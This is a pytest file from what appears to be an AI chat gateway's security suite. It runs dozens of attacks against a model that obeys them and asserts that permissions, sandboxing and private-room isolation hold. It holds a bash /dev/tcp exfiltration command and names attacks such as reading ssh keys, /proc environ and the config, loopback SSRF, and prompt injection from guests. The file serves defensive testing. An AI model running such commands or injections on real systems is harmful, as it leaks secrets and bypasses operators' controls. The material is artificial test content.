"""A hostile room tries everything, with a model that obeys it. Nothing succeeds; the table is printed."""

import asyncio
import os
import re
from collections.abc import Callable, Coroutine, Sequence
from functools import wraps
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import Any, ParamSpec

import pytest

from gateway.core.facts import ApprovalRequested
from tests.attacks.attacks_approvals import APPROVALS
from tests.attacks.attacks_files import FILES, shared
from tests.attacks.attacks_permissions import RIGHTS
from tests.attacks.attacks_private_rooms import ROOMS
from tests.attacks.attacks_prompt_injection import WORDS
from tests.attacks.attacks_shell import BOMBS, SHELL
from tests.attacks.attacks_web import WEB
from tests.attacks.hostile_kit import ADAM, Attack, Fate, Scene, Town, town
from tests.kits.shell import let_nobody_in
from tests.kits.waiting import until

pytestmark = pytest.mark.boxed

P = ParamSpec("P")
AT_ONCE = 12
MOST_WANTED = 60
HELD_CHARS = 110


def story(test: Callable[P, Coroutine[Any, Any, None]]) -> Callable[P, None]:
    @wraps(test)
    def run(*args: P.args, **kwargs: P.kwargs) -> None:
        async def bounded() -> None:
            async with asyncio.timeout(600):
                await test(*args, **kwargs)

        asyncio.run(bounded())

    return run


async def suffered(it: Town, attacks: Sequence[Attack]) -> list[Fate]:
    """Carry them out, some at once; what became of each."""
    room = asyncio.Semaphore(AT_ONCE)

    async def one(attack: Attack) -> Fate:
        async with room:
            try:
                return await it.suffer(attack)
            except (AssertionError, TimeoutError, ValueError) as error:  # it shall not hide what became of the others
                return Fate(True, f"it broke: {type(error).__name__} {error}")

    together = [each for each in attacks if not each.alone]
    fates = dict(zip(together, await asyncio.gather(*(one(each) for each in together)), strict=True))
    for each in attacks:
        if each.alone:
            fates[each] = await one(each)
    return [fates[each] for each in attacks]


def table(attacks: Sequence[Attack], fates: Sequence[Fate]) -> str:
    """For people."""
    lines = [f"{'category':<10} {'attack':<62} held by"]
    for attack, fate in zip(attacks, fates, strict=True):
        found = re.search(attack.held, fate.held)
        held = f"SUCCEEDED {fate.held[:HELD_CHARS]!r}" if fate.won else _around(fate.held, found)
        lines.append(f"{attack.category:<10} {attack.name:<62} {held}")
    return "\n".join(lines)


def _around(text: str, found: re.Match[str] | None) -> str:
    begins = found.start() if found else 0
    flat = " ".join(text[begins : begins + 2 * HELD_CHARS].split())
    return f"{'' if found else '??? '}{flat[:HELD_CHARS]}"


@story
async def test_nothing_succeeds(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    attacks = [*RIGHTS, *FILES, *SHELL, *WEB, *WORDS, *APPROVALS, *ROOMS]
    assert len(attacks) >= MOST_WANTED
    await nothing_succeeds(tmp_path, monkeypatch, attacks)


@story
async def test_no_bomb_goes_off(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    await nothing_succeeds(tmp_path, monkeypatch, BOMBS)


@story
async def test_what_is_written_in_one_room_is_kept_from_the_others(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    await nothing_succeeds(tmp_path, monkeypatch, shared(twin=False))


@story
async def test_whoever_may_read_it_reads_it_unasked(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    async with town(tmp_path, monkeypatch) as it:
        twins = shared(twin=True)
        fates = await suffered(it, twins)
    assert not [f"{twin.name}: {fate.held[:300]}" for twin, fate in zip(twins, fates, strict=True) if not fate.won]


@story
async def test_a_command_with_network_sends_nothing_that_is_written_elsewhere_meanwhile(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The twin is in the same room: what is written there is sent unasked, at an admin's word."""
    sends = (
        "touch MARK-up; for n in $(seq 60); do x=$(cat MARK 2>/dev/null); [ $x ] && break; sleep 0.05; done; "
        "exec 3<>/dev/tcp/127.0.0.1/PORT; printf 'GET /%s-MARK HTTP/1.0\\r\\n\\r\\n' $x >&3; cat <&3"
    )
    async with town(tmp_path, monkeypatch, bash={"network": True, "timeout": 10, "max_timeout": 20}) as it:

        async def attempt(here: Scene, there: Scene, write: tuple[str, dict[str, object]]) -> tuple[str, str]:
            command = sends.replace("MARK", here.mark).replace("PORT", str(it.inside.port))
            begin = ("bash", {"command": command, "background": True})
            while "may not run beside it" in await here.does(ADAM, begin):
                await asyncio.sleep(0.1)
            await until(here.file(f"{here.mark}-up").exists)
            told = await there.does(ADAM, (write[0], {**write[1]}))
            await until(lambda: any(one.path.endswith(here.mark) for one in it.inside.seen))
            assert not await there.facts(ApprovalRequested, "approval_asked")
            return told, next(one.path for one in it.inside.seen if one.path.endswith(here.mark))

        def by_tool(here: Scene) -> tuple[str, dict[str, object]]:
            return "write_file", {"path": here.mark, "text": "sesame"}

        def by_command(here: Scene) -> tuple[str, dict[str, object]]:
            return "bash", {"command": f"printf ses > n; printf ame >> n; mv n {here.mark}"}

        for written in (by_tool, by_command):
            here, there = it.scene(), it.scene(private=True)
            told, sent = await attempt(here, there, written(here))
            assert sent == f"/-{here.mark}", "nothing was there"
            assert ("could send this out" in told) == (written is by_tool), told
            assert here.file(here.mark).exists() == (written is by_command), "it waits until the job has ended"
            twin = it.scene(private=True)
            told, sent = await attempt(twin, twin, written(twin))
            assert sent == f"/sesame-{twin.mark}", told


def may_know(place: str, secret: str) -> bool:
    """Whether it may be told there: an owner's own alone with them, a private room's in it."""
    if place == "street/olga":
        return secret in ("diary", "memory", "user", "staff")
    return secret == "staff" and place.startswith("street/staff")


OPEN: dict[str, Any] = {
    "rules": [{"tool": "*", "role": "guest", "approval": "never"}],
    "off": [],
    "bash": {"sandbox": "off", "timeout": 200},
    "web": {"allow_private": ["127.0.0.0/8", "localhost", "inward.attacker.net"]},
}
"""A gate that lets all through, a shell without walls, and every address: by the operator's own word."""
BITES = (
    "a guest asks for a shell",
    "who nobody vouches for has the owner's id and asks for a shell",
    "a guest has a file written",
    "a guest has files searched",
    "a guest has a page fetched",
    "a guest has a server's tool called",
    "a guest's shell by call_capability",
    "a guest has the topic changed",
    "a guest has a file sent",
    "the configuration by its path",
    "MEMORY.md and USER.md",
    "a key of ssh",
    "/proc/PID/environ of the gateway",
    "MEMORY.md written by a link",
    "a hard link to a file outside",
    "a connection to this machine",
    "loopback",
    "a name that leads to loopback",
    "a name whose answer changes",
    "redirected to loopback",
    "redirected in hops",
    "another room, when an admin reads it",
    "a guest speaks beside an admin",
    "a guest's line overheard before an admin speaks",
    "a topic",
    "a guest's reminder that asks for a shell",
)


HELD_FROM_NOBODY = {
    "the configuration by its path",
    "a key of ssh",
    "/proc/PID/environ of the gateway",
    "MEMORY.md written by a link",
    "a hard link to a file outside",
}
"""What a shell without walls does not reach where the gateway runs as root: its commands run as `nobody`."""


@story
async def test_where_nothing_holds_they_do_succeed(monkeypatch: pytest.MonkeyPatch) -> None:
    """Not below pytest's own directory, which each run of pytest closes to `nobody` again."""
    root = os.geteuid() == 0
    named = {attack.name: attack for attack in (*RIGHTS, *FILES, *SHELL, *WEB, *WORDS, *APPROVALS, *ROOMS)}
    attacks = [named[name] for name in BITES if not root or name not in HELD_FROM_NOBODY]
    with TemporaryDirectory() as own:
        async with town(Path(own), monkeypatch, **OPEN) as it:
            let_nobody_in(Path(own) / "workspace")
            fates = await suffered(it, attacks)
    assert not [
        f"{attack.name}: {fate.held[:200]}" for attack, fate in zip(attacks, fates, strict=True) if not fate.won
    ]
    assert not [fate.held for fate in fates if fate.held.startswith("it broke")]


async def nothing_succeeds(folder: Path, patch: pytest.MonkeyPatch, attacks: Sequence[Attack]) -> None:
    async with town(folder, patch) as it:
        fates = await suffered(it, attacks)
        print(table(attacks, fates))
        out = {pair for pair in it.puppet.read if not may_know(*pair)}
        posted = {(part.to.room, name) for part in it.shown for name in it.leaking(part.body)}
        assert not out, "the model was told what it may not know there"
        assert not {pair for pair in posted if not may_know(f"street/{pair[0]}", pair[1])}
    succeeded = [f"{attack.name}: {fate.held}" for attack, fate in zip(attacks, fates, strict=True) if fate.won]
    assert not succeeded, "\n".join(succeeded)
    otherwise = [
        f"{attack.name}: {fate.held[:300]}"
        for attack, fate in zip(attacks, fates, strict=True)
        if not re.search(attack.held, fate.held)
    ]
    assert not otherwise, "held by something else than what is meant to: " + "\n".join(otherwise)
